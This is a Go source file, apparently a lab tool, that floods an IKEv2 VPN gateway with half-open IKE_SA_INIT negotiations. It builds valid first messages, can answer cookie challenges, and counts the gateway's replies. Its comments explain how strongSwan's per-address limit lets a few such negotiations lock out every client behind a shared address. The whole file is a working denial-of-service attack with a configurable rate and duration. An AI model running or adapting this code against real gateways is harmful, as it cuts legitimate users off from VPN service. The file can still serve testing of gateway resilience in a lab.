// Package attack begins IKE negotiations and never finishes one, as somebody does
// who wants a VPN gateway to have no room for others. It is for the lab, where
// such a stranger is a node of its own; it speaks no further than a first message.
//
// A gateway keeps something of each first message that it answers. strongSwan
// refuses an address that has five such; behind an accelerator all clients
// have the same address, so five are enough against everybody.
package attack

import (
	"context"
	"crypto/ecdh"
	"crypto/rand"
	"encoding/binary"
	"errors"
	"fmt"
	"net"
	"net/netip"
	"sync"
	"sync/atomic"
	"time"
)

// Config is one attack. All fields but Cookies are needed.
type Config struct {
	Target netip.AddrPort // where IKE is asked for
	Rate   float64        // first messages a second
	For    time.Duration
	// Cookies has it come again with the cookie when it is asked for one, as
	// somebody can who does not lie about his address.
	Cookies bool
	// Listen opens a socket in the attacker's network.
	Listen func() (net.PacketConn, error)
}

// Count is what an attack did.
type Count struct {
	Sent     int64 // first messages
	Answered int64 // half-open negotiations that it has made
	Asked    int64 // cookies that it was asked for
	Refused  int64 // answers that were neither
}

func (c Count) String() string {
	return fmt.Sprintf("%d initiations, %d answered, %d cookies asked for", c.Sent, c.Answered, c.Asked)
}

// sockets is from how many ports it comes.
const sockets = 16

// Run attacks until its time is over or ctx ends.
func Run(ctx context.Context, c Config) (Count, error) {
	ctx, cancel := context.WithTimeout(ctx, c.For)
	defer cancel()
	a := &attacker{Config: c, to: net.UDPAddrFromAddrPort(c.Target)}
	var readers sync.WaitGroup
	defer readers.Wait()
	for range sockets {
		conn, err := c.Listen()
		if err != nil {
			return Count{}, fmt.Errorf("attack %v: %w", c.Target, err)
		}
		defer conn.Close() // before the wait above: deferred later
		a.conns = append(a.conns, conn)
		readers.Go(func() { a.read(conn) })
	}
	beat := time.NewTicker(time.Duration(float64(time.Second) / c.Rate))
	defer beat.Stop()
	var err error
	for n := 0; err == nil; n++ {
		select {
		case <-ctx.Done():
			return a.count(), nil
		case <-beat.C:
			err = a.begin(a.conns[n%sockets])
		}
	}
	return a.count(), fmt.Errorf("attack %v: %w", c.Target, err)
}

type attacker struct {
	Config
	to    net.Addr
	conns []net.PacketConn

	sent, answered, asked, refused atomic.Int64
	open                           sync.Map // SPI → the message it began with
}

func (a *attacker) count() Count {
	return Count{a.sent.Load(), a.answered.Load(), a.asked.Load(), a.refused.Load()}
}

func (a *attacker) begin(conn net.PacketConn) error {
	m, err := message()
	if err != nil {
		return err
	}
	if a.Cookies {
		a.open.Store([8]byte(m), m)
	}
	if _, err := conn.WriteTo(m, a.to); err != nil && !transient(err) {
		return err
	}
	a.sent.Add(1)
	return nil
}

// transient reports whether a way may be there again in a moment.
func transient(err error) bool {
	var op *net.OpError
	return errors.As(err, &op) && !errors.Is(err, net.ErrClosed)
}

func (a *attacker) read(conn net.PacketConn) {
	buf := make([]byte, 2048)
	for {
		n, _, err := conn.ReadFrom(buf)
		if errors.Is(err, net.ErrClosed) {
			return
		}
		if err != nil {
			continue // an ICMP error about something sent
		}
		switch cookie, kind := judge(buf[:n]); kind {
		case answered:
			a.answered.Add(1)
		case asked:
			a.asked.Add(1)
			if m, ok := a.open.LoadAndDelete([8]byte(buf)); ok {
				_, _ = conn.WriteTo(withCookie(m.([]byte), cookie), a.to)
			}
		default:
			a.refused.Add(1)
		}
	}
}

// Numbers of RFC 7296 and its registries.
const (
	headerLen   = 28
	exchange    = 34 // IKE_SA_INIT
	payloadSA   = 33
	payloadKE   = 34
	payloadN    = 40 // Nonce
	payloadNote = 41
	noteCookie  = 16390
)

// message is a first message with what the lab's gateways accept: AES-GCM with
// 128 bits, HMAC-SHA-256, a key share on P-256.
func message() ([]byte, error) {
	key, err := ecdh.P256().GenerateKey(rand.Reader)
	if err != nil {
		return nil, err
	}
	m := make([]byte, 8, 256)
	if _, err := rand.Read(m); err != nil {
		return nil, err
	}
	m = append(m, 0, 0, 0, 0, 0, 0, 0, 0, payloadSA, 0x20, exchange, 0x08, 0, 0, 0, 0, 0, 0, 0, 0)
	transforms := []byte{
		3, 0, 0, 12, 1, 0, 0, 20, 0x80, 14, 0, 128, // ENCR_AES_GCM_16, key length 128
		3, 0, 0, 8, 2, 0, 0, 5, // PRF_HMAC_SHA2_256
		0, 0, 0, 8, 4, 0, 0, 19, // 256-bit random ECP group
	}
	proposal := append([]byte{0, 0, 0, byte(8 + len(transforms)), 1, 1, 0, 3}, transforms...)
	m = payload(m, payloadKE, proposal)
	m = payload(m, payloadN, append([]byte{0, 19, 0, 0}, key.PublicKey().Bytes()[1:]...))
	nonce := make([]byte, 32)
	if _, err := rand.Read(nonce); err != nil {
		return nil, err
	}
	m = payload(m, 0, nonce)
	binary.BigEndian.PutUint32(m[24:], uint32(len(m)))
	return m, nil
}

func payload(m []byte, next byte, body []byte) []byte {
	m = append(m, next, 0)
	m = binary.BigEndian.AppendUint16(m, uint16(4+len(body)))
	return append(m, body...)
}

// withCookie is m again with the cookie before everything else.
func withCookie(m, cookie []byte) []byte {
	again := append([]byte(nil), m[:headerLen]...)
	first := again[16]
	again[16] = payloadNote
	again = payload(again, first, append([]byte{0, 0, noteCookie >> 8, noteCookie & 0xff}, cookie...))
	again = append(again, m[headerLen:]...)
	binary.BigEndian.PutUint32(again[24:], uint32(len(again)))
	return again
}

type verdict int

const (
	other verdict = iota
	answered
	asked
)

// judge reads an answer: it begins with an SA, or asks for a cookie.
func judge(b []byte) (cookie []byte, v verdict) {
	if len(b) < headerLen+4 || b[18] != exchange || b[19]&0x20 == 0 {
		return nil, other
	}
	length := int(binary.BigEndian.Uint16(b[headerLen+2:]))
	switch {
	case b[16] == payloadSA:
		return nil, answered
	case b[16] == payloadNote && length >= 8 && headerLen+length <= len(b) && binary.BigEndian.Uint16(b[headerLen+6:]) == noteCookie:
		return append([]byte(nil), b[headerLen+8:headerLen+length]...), asked
	}
	return nil, other
}
